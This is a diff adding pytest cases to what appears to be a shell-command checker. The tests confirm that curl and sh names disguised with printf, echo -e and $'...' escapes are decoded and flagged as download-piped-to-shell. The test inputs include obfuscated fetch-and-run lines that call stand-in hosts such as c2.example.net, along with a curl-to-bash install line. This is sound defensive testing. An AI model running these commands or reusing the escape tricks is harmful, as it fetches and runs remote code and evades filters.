@@ -96,3 +96,26 @@ def test_fetched_code_handed_to_a_shell_as_its_script_or_its_input():
                  'export V="$(curl -s http://x/v)"; sh ./run.sh', 'source ./env.sh <<< "$(curl -s http://x/v)"',
                  "echo 'Install: /bin/bash -c \"$(curl -fsSL https://x.example/install.sh)\"' >> README.md"):
         assert "download-piped-to-shell" not in checked(line), (line, runs(line))
+
+
+@pytest.mark.parametrize(("line", "shell_runs"), [
+    (r"$(printf '\143\165\162\154') -s -m 4 http://c2.example.net:8080/a | $(printf '\163\150')",
+     "curl -s -m 4 http://c2.example.net:8080/a | sh"),
+    (r"$'\x63url' -s http://x.example/a | $'\163h'", "curl -s http://x.example/a | sh"),
+    (r"`printf '\x63\x75rl'` -s http://x.example/a | bash", "curl -s http://x.example/a | bash"),
+    (r'$(echo -e "\x63url") -s http://x.example/a | $(echo -ne "\0163h")', "curl -s http://x.example/a | sh"),
+])
+def test_names_spelled_in_escapes_are_read_as_the_shell_computes_them(line, shell_runs):
+    """printf, echo -e and $'...' given only literals compute the same words every time: the rules
+    read those words (what bash itself printed for each escape form is the expected text)."""
+    assert runs(line) == shell_runs
+    assert "download-piped-to-shell" in checked(line)
+
+
+def test_escapes_left_as_written_where_the_shell_would_not_read_them_so():
+    # echo without -e, and echo -e's octal without its leading 0, print the backslash; a conversion
+    # or a variable is not a literal; inside double quotes a substitution is not a word of its own
+    for line in (r"$(echo '\143url') x", r"$(echo -e '\143url') x", r"$(printf '%s' curl) x",
+                 r'echo "$(printf "\x63url")"', r"V=$(printf '\x63url'); $V x"):
+        assert "curl x" not in runs(line), (line, runs(line))
+    assert runs(r"printf '\143url\n' > notes.txt") == "printf > notes.txt"  # data stays data
